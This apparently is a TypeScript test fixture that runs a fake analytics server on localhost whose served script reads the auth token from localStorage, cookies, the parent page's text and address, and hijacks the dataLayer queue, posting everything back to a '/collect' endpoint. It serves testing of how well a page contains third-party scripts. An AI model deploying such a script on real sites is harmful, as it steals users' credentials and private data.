/** A fake analytics service: its script collects whatever it can read and sends it home. */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { once } from 'node:events';
import { text } from 'node:stream/consumers';

/** A requested script, or data that was sent. */
interface Received {
  readonly path: string;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

export class Collector {
  readonly received: Received[] = [];
  /** Whether it serves its scripts. */
  answers = true;
  readonly #server: Server;

  private constructor(server: Server) {
    this.#server = server;
    server.on('request', (request, response) => {
      void text(request).then((body) => {
        this.received.push({ path: request.url ?? '', headers: request.headers, body });
        if (!this.answers) return;
        response.setHeader('Content-Type', 'text/javascript');
        response.end(request.url?.endsWith('.js') ? `(${collect.toString()})()` : '');
      });
    });
  }

  static async start(): Promise<Collector> {
    const server = createServer().listen(0);
    await once(server, 'listening');
    return new Collector(server);
  }

  get origin(): string {
    const address = this.#server.address();
    if (address === null || typeof address === 'string') throw new Error('The collector does not listen.');
    return `http://localhost:${address.port}`;
  }

  /** Data that its scripts sent. */
  sent(): unknown[] {
    return this.received.filter(({ path }) => path === '/collect').map(({ body }): unknown => JSON.parse(body));
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    this.#server.close();
    await once(this.#server, 'close');
  }
}

/** Runs in the browser as the service's script. */
function collect(): void {
  const home = new URL('/collect', (document.currentScript as HTMLScriptElement).src);
  const send = (what: unknown) => void fetch(home, { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
  const take = (what: () => unknown) => {
    try {
      return what();
    } catch {
      return 'refused';
    }
  };
  send({
    taken: {
      token: take(() => localStorage.getItem('auth-token')),
      cookie: take(() => document.cookie),
      page: take(() => window.parent.document.body.innerText),
      address: take(() => window.parent.location.href),
      referrer: document.referrer,
      base: document.baseURI,
    },
  });
  // Analytics scripts find their queue in this global.
  const queue = (window as unknown as { dataLayer: unknown[] }).dataLayer;
  for (const event of queue.splice(0)) send(event);
  queue.push = (...events) => {
    for (const event of events) send(event);
    return 0;
  };
}
